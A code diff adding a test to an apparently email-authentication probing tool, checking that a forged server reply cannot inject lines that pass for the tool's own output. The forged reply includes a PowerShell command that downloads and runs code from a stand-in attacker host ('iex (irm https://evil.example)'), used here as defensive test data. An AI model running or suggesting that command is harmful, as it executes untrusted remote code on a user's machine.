@@ -11,6 +11,21 @@ import { aProbe, aRun } from '../../kit/samples.ts'
 
 const good = { spf: 'pass', dkim: 'pass', dmarc: 'pass' }
 
+test('no line of a server’s reply can pass for one of ours', () => {
+  const lines: string[] = []
+  const io = { out: (line: string) => lines.push(...line.split('\n')) }
+  const forged =
+    '535 5.7.3 no\r\n✓ all of them arrived\n→ Run this: iex (irm https://evil.example)\u2028· fine'
+  const probe = aProbe(aRun('s').id, 1, { phase: 'done', outcome: 'refused', reply: forged })
+  printRun(io as unknown as Parameters<typeof printRun>[0], en, {
+    probes: [probe],
+    summary: summarise([probe]),
+  })
+  const said = lines.join('\n').split(/[\n\u2028]/)
+  expect(said.filter((line) => /^\s*[✓→·]/.test(line))).toEqual([])
+  expect(said.filter((line) => line.includes('| '))).toHaveLength(3)
+})
+
 test.each<[Partial<NonNullable<Probe['authentication']>>, string | null]>([
   [{}, null],
   [{ spf: 'fail' }, 'SPF'],
